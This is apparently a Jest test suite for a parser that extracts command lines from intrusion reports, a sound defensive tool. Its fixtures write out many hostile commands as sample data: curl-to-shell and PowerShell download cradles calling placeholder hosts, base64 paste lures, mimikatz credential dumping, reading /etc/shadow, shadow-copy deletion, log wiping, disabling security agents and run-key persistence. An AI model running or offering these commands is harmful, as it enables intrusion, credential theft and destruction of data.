import { parseDocument } from '../text/document';
import { extractCmdlines } from './extract-cmdline';

const values = (text: string) => extractCmdlines(parseDocument(text)).map((i) => i.value.replace(/\s+/g, ' '));

describe('extractCmdlines', () => {
  it('reads command lines from code blocks, stripping prompts and skipping comments', () => {
    const text = '```\nC:\\> whoami /all\nPS C:\\Users\\a> Get-Process -Name lsass\n# a comment\n$ curl -s http://x.test/a | sh\n```';
    expect(values(text)).toEqual(['whoami /all', 'Get-Process -Name lsass', 'curl -s http://x.test/a | sh']);
  });

  it('keeps bare commands only in shell-tagged blocks (a discovery program alone in a block aside)', () => {
    expect(values('```bash\nwhoami\nid\n```')).toEqual(['whoami', 'id']);
    expect(values('```\nmimikatz\n```')).toEqual([]);
  });

  it('joins continued lines (^, `, \\, &&, open quotes, value-taking switches)', () => {
    const text = [
      'cmd /k "curl -o C:\\a.msi ',
      'http://x.test/a && ',
      'explorer /select,C:\\a.msi"',
      '',
      'powershell -c ',
      '"iex (iwr x)"',
    ].join('\n');
    expect(values(text)).toEqual([
      'cmd /k "curl -o C:\\a.msi http://x.test/a && explorer /select,C:\\a.msi"',
      'powershell -c "iex (iwr x)"',
    ]);
  });

  it('drops the continuation markers of a command written over several lines', () => {
    const text = [
      '```',
      'curl -fsSL https://203.0.113.50/install.sh \\',
      '  -o /tmp/.i.sh && \\',
      '  bash /tmp/.i.sh',
      '```',
      '',
      '```bat',
      'powershell.exe -nop -w hidden ^',
      '  -c "IEX (iwr http://203.0.113.51/a)"',
      '```',
    ].join('\n');
    expect(extractCmdlines(parseDocument(text)).map((item) => item.value)).toEqual([
      'curl -fsSL https://203.0.113.50/install.sh -o /tmp/.i.sh && bash /tmp/.i.sh',
      'powershell.exe -nop -w hidden -c "IEX (iwr http://203.0.113.51/a)"',
    ]);
  });

  it('reads inline code only when it is a program with arguments', () => {
    const text = 'It ran `useradd --uid 0 system` and dropped `main.zip`, then used `xmrig`.';
    expect(values(text)).toEqual(['useradd --uid 0 system']);
  });

  it('drops a short label before the command', () => {
    expect(values('-- Simple variant: start "" /min cmd /c calc')).toEqual(['start "" /min cmd /c calc']);
  });

  it('reads quoted commands and distinctive programs with switches inside sentences', () => {
    const text = "The child runs 'killall Terminal 2>/dev/null' via system() and writes system_profiler SPSoftwareDataType as a file.";
    expect(values(text)).toEqual(['killall Terminal 2>/dev/null', 'system_profiler SPSoftwareDataType']);
  });

  it('invents nothing from hedges, product names or prose about a program', () => {
    const text = [
      'The actor may have used PowerShell for discovery.',
      'rundll32.exe is then invoked with the current directory set to the share.',
      'pcalua.exe as a parent process for powershell.exe.',
      'The actor uses cmd.exe > curl.exe to download the MSI.',
      'File Path: /private/tmp/s.dmg',
      'Start the service from the console.',
    ].join('\n');
    expect(values(text)).toEqual([]);
  });

  it('drops fragments contained in a longer command line', () => {
    const text = '- conhost --headless cmd /c "a.cmd"\n- Launches conhost --headless with node.exe';
    expect(values(text)).toEqual(['conhost --headless cmd /c "a.cmd"']);
  });

  it('strips a trailing prose remark in parentheses', () => {
    expect(values('- certutil -urlcache -f http://x.test/a.exe a.exe (downloads the payload)')).toEqual([
      'certutil -urlcache -f http://x.test/a.exe a.exe',
    ]);
  });

  it('does not read hunt queries as command lines', () => {
    expect(values('```kql\nDeviceProcessEvents\n| where FileName =~ "cmd.exe"\n```')).toEqual([]);
  });

  it('reports the program and an exact evidence span', () => {
    const text = 'Then: `net group "Domain Admins" /domain`';
    const [item] = extractCmdlines(parseDocument(text));
    expect(item.executable).toBe('net');
    expect(text.slice(item.evidence.start, item.evidence.end)).toBe(item.value);
  });

  it('reads a redirected command run by path, which is not a cmd prompt', () => {
    const text =
      '```\nC:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt\nC:\\Users\\bob> whoami /all\n```';
    expect(values(text)).toEqual(['C:\\Users\\Public\\af.exe -f "(objectcategory=computer)" > C:\\Users\\Public\\ad.txt', 'whoami /all']);
  });

  it('reads pipelines and word sub-commands of programs run by path in shell blocks only', () => {
    const block =
      '```powershell\nC:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==\n```\n\n```bash\nenv | grep -Ei "token|secret" > /tmp/.e\n```';
    expect(values(block)).toEqual([
      'C:\\ProgramData\\x\\agent.exe service install eyJhIjoiZjNk==',
      'env | grep -Ei "token|secret" > /tmp/.e',
    ]);
    expect(values('C:\\ProgramData\\x\\agent.exe service is then started by the installer /quiet.')).toEqual([]);
  });

  it('reads the command of a crontab entry without its schedule and user', () => {
    const text = '```\n*/5 * * * * root /usr/bin/curl -s http://x.test/a | sh\n@reboot /tmp/.x/run --quiet\n0 1 2 3 4 5\n```';
    expect(values(text)).toEqual(['/usr/bin/curl -s http://x.test/a | sh', '/tmp/.x/run --quiet']);
  });

  it('reads commands handed to a shell as string literals in program code', () => {
    const text = '```groovy\ndef p = "curl -fsSL http://x.test/j.sh -o /tmp/.j.sh".execute()\nprintln "the job is done"\n```';
    expect(values(text)).toEqual(['curl -fsSL http://x.test/j.sh -o /tmp/.j.sh']);
  });

  it('does not read a wrapped sentence or a labelled link as a command', () => {
    expect(values('Our earlier reports in this series are listed\nat https://x.test/edge/.')).toEqual([]);
    expect(values('PsExec documentation: https://learn.microsoft.com/en-us/sysinternals/downloads/psexec')).toEqual([]);
    expect(values('Create the job:\nat 23:00 /every:M "C:\\x.bat"')).toEqual(['at 23:00 /every:M "C:\\x.bat"']);
  });

  it('reads a command whose output a shell variable captures', () => {
    const text = '```sh\nTOKEN=$(curl -s -X PUT "http://x.test/latest/api/token" -H "ttl: 21600")\nNAME=value\n```';
    expect(values(text)).toEqual(['TOKEN=$(curl -s -X PUT "http://x.test/latest/api/token" -H "ttl: 21600")']);
  });

  it('reads the command lines of a process-tree listing', () => {
    const text =
      '```\n/usr/sbin/cron -f\n└── /bin/sh -c curl -fsSL http://x.test/r.sh | sh\n    ├── curl -fsSL http://x.test/r.sh\n    └── sh\n```';
    expect(values(text)).toEqual(['/usr/sbin/cron -f', '/bin/sh -c curl -fsSL http://x.test/r.sh | sh', 'curl -fsSL http://x.test/r.sh']);
  });

  it('splits the commands of a page that ran its code lines together, and leaves out the prose between them', () => {
    const text =
      'The tool ran the following: vssadmin.exe delete shadows /all /quiet cmd.exe /c wevtutil cl app | wevtutil cl sys cmd.exe /C ping 127.0.0.1 -n 2 > nul && del /F "C:\\x\\e.exe" According to the vendor, these are built in.';
    expect(values(text)).toEqual([
      'vssadmin.exe delete shadows /all /quiet',
      'cmd.exe /c wevtutil cl app | wevtutil cl sys',
      'cmd.exe /C ping 127.0.0.1 -n 2 > nul && del /F "C:\\x\\e.exe"',
    ]);
  });

  it('cuts the description a table row runs on after its command', () => {
    const text =
      'Command Purpose reg add "HKLM\\Software\\Acme" /v "Off" /t REG_DWORD /d "1" /f Turns off the acme agent. sc stop acmesvc sc delete acmesvc Removes the agent service. Set-MpPreference -DisableFoo $true Disables real-time scanning via policy.';
    expect(values(text)).toEqual([
      'reg add "HKLM\\Software\\Acme" /v "Off" /t REG_DWORD /d "1" /f',
      'sc stop acmesvc',
      'sc delete acmesvc',
      'Set-MpPreference -DisableFoo $true',
    ]);
  });

  it('reads a worded tool with its sub-command and object in a sentence, but not before a function word', () => {
    expect(values('The intruder then used sc delete AcmeGuard to remove the agent.')).toEqual(['sc delete AcmeGuard']);
    expect(values('Operators like to run net user and group listings first.')).toEqual([]);
  });

  it('keeps the command a runner hands on (psexec, conhost, kubectl exec --) with its runner', () => {
    expect(
      values('```\nkubectl exec -it pod-1 -- chroot /host /bin/bash\nC:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"\n```'),
    ).toEqual(['kubectl exec -it pod-1 -- chroot /host /bin/bash', 'C:\\t\\PsExec64.exe \\\\fs01 -s -d cmd /c "C:\\t\\a.bat"']);
  });

  it("drops an analyst's trailing note after a Windows command but keeps a lure that is part of it", () => {
    const text = '```\nwhoami /priv   # check privileges\nnltest /domain_trusts REM list the trusts\n```';
    expect(values(text)).toEqual(['whoami /priv', 'nltest /domain_trusts']);
    expect(values('```\nmshta https://lure.test/verify.hta # ✅ Verification ID: 2231\n```')).toEqual([
      'mshta https://lure.test/verify.hta # ✅ Verification ID: 2231',
    ]);
  });

  it('strips a line-number gutter a page copied with a code block, only when the numbers run in turn', () => {
    expect(values('```\n1 whoami /all\n2 net group "domain admins" /domain\n3 ipconfig /all\n```')).toEqual([
      'whoami /all',
      'net group "domain admins" /domain',
      'ipconfig /all',
    ]);
    expect(values('```\n1 whoami /all\n7 ipconfig /all\n```')).toEqual([]);
  });

  it("reads a table's command column cell by cell: neither the column bar nor the description joins the command", () => {
    const text = [
      '| Command | Purpose |',
      '|---|---|',
      '| whoami /groups | Shows groups of the current user |',
      '| nltest /dclist:corp | Lists domain controllers |',
      '| `ls -A /root | grep -v -E keep | xargs rm -rf` | Wipes the folder |',
      '',
      '| Tool | Notes |',
      '|---|---|',
      '| Seen once | ipconfig |',
    ].join('\n');
    expect(values(text)).toEqual(['whoami /groups', 'nltest /dclist:corp', 'ls -A /root | grep -v -E keep | xargs rm -rf']);
  });

  it("ends a command where a table's description column, run on by the page, begins with a verb", () => {
    const text =
      'Purpose list: reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f Removes the tray icon run key. bcdedit /set {current} bootstatuspolicy ignoreallfailures modifies the boot configuration of the host.';
    expect(values(text)).toEqual([
      'reg delete "HKLM\\Software\\Acme\\Run" /v "AcmeTray" /f',
      'bcdedit /set {current} bootstatuspolicy ignoreallfailures',
    ]);
  });

  it("skips a tool's tabular output in a code block", () => {
    const text =
      '```\nImage Name        PID Session Name   Mem Usage\nsvchost.exe       908 Services       12,344 K\nacmeagent.exe    4412 Console         8,120 K\n```';
    expect(values(text)).toEqual([]);
  });

  it("reads the command after a log line's time stamp and after an event field's label", () => {
    const text =
      '```\n2024-03-02 10:14:22 cmd.exe /c whoami /all\n[10:14:25] net group "domain admins" /domain\nCommandLine: powershell.exe -ep bypass -f C:\\temp\\a.ps1\n```';
    expect(values(text)).toEqual([
      'cmd.exe /c whoami /all',
      'net group "domain admins" /domain',
      'powershell.exe -ep bypass -f C:\\temp\\a.ps1',
    ]);
    expect(values('2024-03-02T10:15:00Z - nltest /dclist:corp')).toEqual(['nltest /dclist:corp']);
  });

  it('reads a program whose path has spaces, quoted or as a page printed it unquoted', () => {
    expect(values('"C:\\Program Files\\Acme Sync\\acme.exe" --hidden')).toEqual(['"C:\\Program Files\\Acme Sync\\acme.exe" --hidden']);
    expect(values('D:\\Program Files\\DbTool\\9\\bin\\dbq.exe -U admin -c "SELECT 1"')).toEqual([
      'D:\\Program Files\\DbTool\\9\\bin\\dbq.exe -U admin -c "SELECT 1"',
    ]);
    expect(
      values('Archives were opened with "C:\\Program Files\\Packer\\pk.exe" x -y "E:\\data.zip" E:\\out The next step was staging.'),
    ).toEqual(['"C:\\Program Files\\Packer\\pk.exe" x -y "E:\\data.zip" E:\\out']);
  });

  it('ends a command in a sentence at punctuation a page set apart with spaces, keeping a switch that ends in a colon', () => {
    expect(values('They then ran tool.exe . Analysis showed more.')).toEqual([]);
    expect(values('By running net user guest Secr3t! , they took over the account.')).toEqual(['net user guest Secr3t!']);
    expect(values('They listed controllers with nltest /dclist: and moved on.')).toEqual(['nltest /dclist:']);
  });

  it('reads the command-line field of an event whose fields a page ran onto one line', () => {
    const text = [
      'The event:',
      '',
      'ParentImage: svchost.exe Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c echo hi > C:\\t\\a.txt',
      'CommandLine: C:\\Users\\bob\\AppData\\Local\\Temp\\updater.exe',
    ].join('\n');
    expect(values(text)).toEqual(['cmd.exe /c echo hi > C:\\t\\a.txt', 'C:\\Users\\bob\\AppData\\Local\\Temp\\updater.exe']);
  });

  it('reads each command of a line listing the /c tails a shell ran, without the elision after one', () => {
    const text = 'The beacon ran:\n/c hostname /c arp -a /c ping -n 2 db01.corp.test (...) /c cmd /c ver /c netstat -ano';
    expect(values(text)).toEqual(['hostname', 'arp -a', 'ping -n 2 db01.corp.test', 'cmd /c ver', 'netstat -ano']);
  });

  it('splits a line of commands a page ran together where the same program starts again or a bare tool is followed by a path', () => {
    const text = [
      'On the file server:',
      '',
      'hostname D:\\Tools\\viewer.exe D:\\logs\\app.log net view net share',
      '',
      'Then:',
      '',
      'ping -n 2 fs01.corp.test ping -n 2 fs02.corp.test',
      '',
      'And:',
      '',
      'net config net session D:\\Tools\\mon.exe /2',
    ].join('\n');
    expect(values(text)).toEqual([
      'hostname',
      'D:\\Tools\\viewer.exe D:\\logs\\app.log',
      'net view',
      'net share',
      'ping -n 2 fs01.corp.test',
      'ping -n 2 fs02.corp.test',
      'net config',
      'net session',
      'D:\\Tools\\mon.exe /2',
    ]);
  });

  it('splits a command a page glued onto the end of the one before it, with no space between', () => {
    const text = 'sc.exe config AppSvc start= disabledsc.exe config LogSvc start= disabled';
    expect(values(text)).toEqual(['sc.exe config AppSvc start= disabled', 'sc.exe config LogSvc start= disabled']);
  });

  it('does not read a product name followed by a title as a command', () => {
    expect(values('e3b0c442-98fc-1c14 : PowerShell Encoded ToBase64String Usage')).toEqual([]);
    expect(values('Rule 4412 matched Unusual PowerShell ScriptBlock activity.')).toEqual([]);
    expect(values('The AWS [guide](https://docs.example.test/iam) lists good practices for IAM.')).toEqual([]);
    expect(values('Analysts ran PowerShell -NoProfile -File C:\\t\\a.ps1 on the host.')).toEqual([
      'PowerShell -NoProfile -File C:\\t\\a.ps1',
    ]);
  });

  it('skips the control statements of program code and English "if" or "for" after a tool name', () => {
    const text = ['```c', 'if (system("uname -a") != 0) {', '  return 2;', '}', '```'].join('\n');
    expect(values(text)).toEqual([]);
    expect(values('It checks if `/proc/x/flag` exists first.')).toEqual([]);
    expect(values('They used net user and net group for domain enumeration.')).toEqual([]);
  });

  it('strips a host:path$ prompt and joins an indented line that carries on an open parenthesis or a trailing switch', () => {
    const text = [
      '```bash',
      'web-01:~$ rmdir cache.d',
      'truncate -s 0 /var/log/app.log',
      '```',
      '',
      '```powershell',
      "(Invoke-webrequest -Uri 'https://a.example.test/p'",
      '    -UseBasicParsing).content | iex',
      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile',
      '    "$env:TEMP\\z.zip"',
      '```',
    ].join('\n');
    expect(values(text)).toEqual([
      'rmdir cache.d',
      'truncate -s 0 /var/log/app.log',
      "(Invoke-webrequest -Uri 'https://a.example.test/p' -UseBasicParsing).content | iex",
      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile "$env:TEMP\\z.zip"',
    ]);
  });

  it('reads a command whose output a variable captures in inline code', () => {
    expect(values('Create it: ```QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)``` then wait.')).toEqual([
      'QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)',
    ]);
  });

  it('reads a command a script builds in a template literal, and drops a clipped literal \\n after a code line', () => {
    const text = [
      '```javascript',
      'const cmd = `curl -fsSL "https://${host}/s.sh" | sh`;',
      '```',
      '',
      '```',
      'del "%%1" /f /q\\n',
      '```',
    ].join('\n');
    expect(values(text)).toEqual(['curl -fsSL "https://${host}/s.sh" | sh', 'del "%%1" /f /q']);
  });

  it('does not read tools offered as alternatives ("grep / zgrep") as a command on the root path', () => {
    expect(values('Logs can be searched with grep / zgrep, or any text tool.')).toEqual([]);
    expect(values('They listed it with ls / -la on the host.')).toEqual(['ls / -la']);
  });

  it('keeps a word spelt like a function word when a switch follows it, after a quoted program path', () => {
    expect(values('For example "C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x The actor then left.')).toEqual([
      '"C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x',
    ]);
  });

  it('reads a block a shebang marks as a shell script whatever its tag, with lines joined by shell operators and programs run by variable', () => {
    const text = [
      '```javascript',
      '#!/bin/sh',
      'ulimit -n 4096 ; export LANG=C',
      'apk update;apk add socat',
      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
      './$BIN --donate-level 0 -o pool.example.test:443',
      '```',
    ].join('\n');
    expect(values(text)).toEqual([
      'ulimit -n 4096 ; export LANG=C',
      'apk update;apk add socat',
      'if ! type socat; then wget -q http://198.51.100.7/s -O /tmp/s ; fi',
      './$BIN --donate-level 0 -o pool.example.test:443',
    ]);
  });

  it('does not join a command to one after it across prose holding a lone "&"', () => {
    const text =
      'Script: reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f Turns off the agent. Logging & UI reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f Stops logging of agent events.';
    expect(values(text)).toEqual([
      'reg add "HKLM\\Software\\Acme" /v "A" /t REG_DWORD /d "0" /f',
      'reg add "HKLM\\Software\\Acme\\Log" /v "B" /d "1" /f',
    ]);
  });

  it('reads a program run from the working directory and a command run with sudo inside a sentence', () => {
    expect(values('It ran with these parameters: .\\enc.exe -t=4 shares . The flag sets threads.')).toEqual(['.\\enc.exe -t=4 shares']);
    expect(values('Restart the agent using sudo systemctl restart agentd.service.')).toEqual(['sudo systemctl restart agentd.service']);
  });

  it('ends a PowerShell command where a page ran the next statement, an assignment, onto it', () => {
    expect(values('The script: Import-Module -Name "C:\\t\\m.psm1" $key = $cfg.secret')).toEqual(['Import-Module -Name "C:\\t\\m.psm1"']);
  });

  it('reads a cmdlet with a lower-case noun, but not an English compound spelt like one', () => {
    expect(values('```powershell\nInvoke-restmethod -Uri https://a.example.test/c\n```')).toEqual([
      'Invoke-restmethod -Uri https://a.example.test/c',
    ]);
    expect(values('Read-only /mnt/share access was kept.')).toEqual([]);
  });

  it('ends a command set in bold inside a sentence before the closing marker, keeping a trailing glob', () => {
    expect(values('The observed command was **nohup /bin/sh -c /tmp/x 2>&1** , as logged.')).toEqual(['/bin/sh -c /tmp/x 2>&1']);
    expect(values('They wiped it with shred -u /var/tmp/* to hide traces.')).toEqual(['shred -u /var/tmp/*']);
  });

  it('reads rm, find, cat, touch and ln quoted in a sentence when their arguments are a command line, not prose', () => {
    expect(values('To hide its traces the dropper runs rm -rf /var/tmp/.cache-x before it exits.')).toEqual(['rm -rf /var/tmp/.cache-x']);
    expect(values('It then deleted the history with rm ~/.bash_history and logged out.')).toEqual(['rm ~/.bash_history']);
    expect(values('The operator ran find / -name "*.pem" -exec cat {} \\; to collect keys.')).toEqual([
      'find / -name "*.pem" -exec cat {} \\;',
    ]);
    expect(values('Next came cat /etc/shadow and ln -s /dev/null ~/.bash_history to stop logging.')).toEqual([
      'cat /etc/shadow',
      'ln -s /dev/null ~/.bash_history',
    ]);
    // The same words as prose: a path after "find" with no test, a bare "rm -rf", an animal.
    expect(values('You will find /etc/passwd changed on every host.')).toEqual([]);
    expect(values('An rm -rf of the whole disk would have been noticed.')).toEqual([]);
    expect(values('Our cat /dog ratio is a joke, and we find the files and rm them by hand.')).toEqual([]);
  });

  it('reads a PowerShell script in one double-quoted string over several lines, blank lines included, as one command', () => {
    const text = [
      '```',
      'powershell.exe -NoProfile -Command "',
      "$p = 'C:\\ProgramData\\svc.exe'",
      '',
      '# fetch the payload',
      'Invoke-WebRequest http://drop-host.site/svc.exe -OutFile $p',
      'Start-Process $p',
      '"',
      'whoami /all',
      '```',
    ].join('\n');
    const items = extractCmdlines(parseDocument(text)).map((i) => i.value);
    expect(items).toEqual([text.split('\n').slice(1, 8).join('\n'), 'whoami /all']);
    // A quote left open to the end of the block does not swallow the commands after a blank line.
    expect(values('```\necho "start\n\nwhoami /all\nnet user\n```')).toEqual(['echo "start', 'whoami /all', 'net user']);
  });

  it('reads a quoted one-liner that pipes a download into a decoder and a shell once, without its quotes', () => {
    expect(values('The victim is told to paste "curl -fsSL https://x.test/a.sh | base64 -d | bash" into the Terminal.')).toEqual([
      'curl -fsSL https://x.test/a.sh | base64 -d | bash',
    ]);
    expect(values("The clipboard held 'curl -s http://x.test/p | base64 --decode | sh' which runs it.")).toEqual([
      'curl -s http://x.test/p | base64 --decode | sh',
    ]);
    expect(values('The script executes "wget -q -O - http://x.test/m | bash -s" to fetch the miner.')).toEqual([
      'wget -q -O - http://x.test/m | bash -s',
    ]);
  });

  it('reads a quoted one-liner that quotes within itself', () => {
    expect(values(`It runs "bash -c 'curl -s http://x.test/a | base64 -D | zsh'" silently.`)).toEqual([
      "bash -c 'curl -s http://x.test/a | base64 -D | zsh'",
    ]);
    expect(values(`Victims pasted 'echo "Y3VybCBodHRw" | base64 -d | bash' into Terminal.`)).toEqual([
      'echo "Y3VybCBodHRw" | base64 -d | bash',
    ]);
    expect(values(`The user said "it's done" and 'that's all' after.`)).toEqual([]);
  });

  it('drops the quotes a line (or its label) sets around a whole command, not those around a program path', () => {
    expect(values(`- Clipboard payload: "echo 'Y3VybCBodHRw' | base64 -d | bash"`)).toEqual(["echo 'Y3VybCBodHRw' | base64 -d | bash"]);
    expect(values('"curl -s http://x.test/a | sh"')).toEqual(['curl -s http://x.test/a | sh']);
    expect(values('"C:\\Program Files\\Acme\\acme.exe" -k run')).toEqual(['"C:\\Program Files\\Acme\\acme.exe" -k run']);
  });

  it('reads a program path a sentence calls a command line, even without arguments', () => {
    expect(values('Here the following command line initiated the process: C:\\Users\\bob\\Downloads\\Host.exe Of note is that.')).toEqual([
      'C:\\Users\\bob\\Downloads\\Host.exe',
    ]);
    expect(values('The command line was: %TEMP%\\a.exe.')).toEqual(['%TEMP%\\a.exe']);
    expect(values('The command line tool C:\\Tools\\x.exe is handy.')).toEqual([]);
  });

  it('reads a shell handed a quoted script in a sentence, and a command a sentence sets in brackets up to the close', () => {
    expect(values('It executes sh -c "curl -fsSL http://x.test/a | sh" via cron.')).toEqual(['sh -c "curl -fsSL http://x.test/a | sh"']);
    expect(values('The option sh -c is documented.')).toEqual([]);
    expect(values('The one-liner (curl -s http://x.test/a | bash) downloads the next stage.')).toEqual(['curl -s http://x.test/a | bash']);
    expect(values('It ran (cmd.exe /c whoami /all), then exited.')).toEqual(['cmd.exe /c whoami /all']);
  });

  it('reads a one-liner in typographic single quotes that quotes within itself, without the closing mark', () => {
    expect(values('Victims paste ‘echo "Y3VybA==" | base64 -d | bash’ into Terminal.')).toEqual(['echo "Y3VybA==" | base64 -d | bash']);
  });
});

describe('extractCmdlines: Windows forms of intrusion reports', () => {
  it('reads a quoted program path with spaces and an archiver one-letter command', () => {
    const text =
      '```\n"C:\\Program Files\\7-Zip\\7z.exe" a -pS3cret data.7z C:\\Finance\n```\n\n"C:\\Program Files\\WinRAR\\Rar.exe" x -hpK out.rar docs';
    expect(values(text)).toEqual([
      '"C:\\Program Files\\7-Zip\\7z.exe" a -pS3cret data.7z C:\\Finance',
      '"C:\\Program Files\\WinRAR\\Rar.exe" x -hpK out.rar docs',
    ]);
    expect(values('The tool rundll32.exe a malicious DLL loaded.')).toEqual([]);
  });

  it('reads a known program by its absolute path without extension and module::command arguments', () => {
    expect(values('```\nC:\\Windows\\system32\\net1 group "domain admins" /domain\n```')).toEqual([
      'C:\\Windows\\system32\\net1 group "domain admins" /domain',
    ]);
    expect(values('They ran `C:\\Windows\\Temp\\m.exe privilege::debug sekurlsa::logonpasswords exit` next.')).toEqual([
      'C:\\Windows\\Temp\\m.exe privilege::debug sekurlsa::logonpasswords exit',
    ]);
    expect(values('```\nC:\\Users\\bob\\Desktop\\notes group admins\n```')).toEqual([]);
  });

  it('reads route and query with their sub-commands, not the verbs of a sentence', () => {
    expect(values('```\nroute print\nquery user\n```')).toEqual(['route print', 'query user']);
    expect(values('Analysts query user accounts and route print jobs to a queue.')).toEqual([]);
  });

  it('takes a bare command after a shell prompt or among commands run, never a lone word or a list of programs', () => {
    expect(values('```\nC:\\> systeminfo\n```')).toEqual(['systeminfo']);
    expect(values('```\nwhoami\nnet group "domain admins" /domain\nquser\n```')).toEqual([
      'whoami',
      'net group "domain admins" /domain',
      'quser',
    ]);
    expect(values('```\nsysteminfo\nwhoami\nquser\n```')).toEqual([]);
    expect(values('```\n# whoami\nnet user /domain\n```')).toEqual(['net user /domain']);
    expect(values('The actor ran systeminfo and whoami on the host.')).toEqual([]);
  });
});

describe('extractCmdlines: a folder named after its tool', () => {
  it('does not split a command at a folder argument that bears a known program name', () => {
    expect(values('```\nC:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent\n```')).toEqual([
      'C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent',
    ]);
  });
});

describe('extractCmdlines: Windows discovery and capitalised programs', () => {
  it('takes a discovery program run without arguments when it is all a block or inline code shows', () => {
    expect(values('The operator checked the console code page:\n\n```\nchcp\n```')).toEqual(['chcp']);
    expect(values('Then the loaded drivers were listed:\n\n```\nDRIVERQUERY\n```')).toEqual(['DRIVERQUERY']);
    expect(values('Next came `driverquery` and `getmac`.')).toEqual(['driverquery', 'getmac']);
    expect(values('```\nwhoami\n```')).toEqual(['whoami']);
    // A block that only lists names, and prose that names the programs, are not commands run.
    expect(values('```\nchcp\ndriverquery\n```')).toEqual([]);
    expect(values('The actor ran chcp and driverquery on the host.')).toEqual([]);
  });

  it('reads gpresult and the wmic aliases a hardware or disk survey uses', () => {
    expect(values('```\ngpresult /z\n```')).toEqual(['gpresult /z']);
    expect(values('```\n"C:\\Windows\\System32\\Wbem\\WMIC.exe" csproduct get uuid,vendor\n```')).toEqual([
      '"C:\\Windows\\System32\\Wbem\\WMIC.exe" csproduct get uuid,vendor',
    ]);
    expect(values('```\nwmic logicaldisk list brief\n```')).toEqual(['wmic logicaldisk list brief']);
  });

  it('takes a search program with a bare pattern, alone or fed by a pipe', () => {
    expect(values('```\nfindstr lsass\n```')).toEqual(['findstr lsass']);
    expect(values('```\ntasklist | findstr lsass\n```')).toEqual(['tasklist | findstr lsass']);
    expect(values('They piped it: `tasklist | findstr svchost`.')).toEqual(['tasklist | findstr svchost']);
    expect(values('Use findstr to search the files for the word.')).toEqual([]);
  });

  it('reads a Windows program written in capitals before its sub-command, not a capitalised word of a sentence', () => {
    const runKey =
      'REG ADD "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /V "upd" /t REG_SZ /F /D "C:\\Users\\x\\AppData\\u.exe"';
    expect(values('```\n' + runKey + '\n```')).toEqual([runKey]);
    expect(values('```\nNET USE \\\\10.0.0.5\\c$ /user:corp\\svc\nwhoami /all\n```')).toEqual([
      'NET USE \\\\10.0.0.5\\c$ /user:corp\\svc',
      'whoami /all',
    ]);
    expect(values('The intruder ran `' + runKey + '` to persist.')).toEqual([runKey]);
    expect(values('The intruder ran “SC CREATE upd binPath= C:\\Users\\x\\u.exe” to persist.')).toEqual([
      'SC CREATE upd binPath= C:\\Users\\x\\u.exe',
    ]);
    expect(values('Reg add operations were common. Set the flag /f to force it.')).toEqual([]);
  });
});
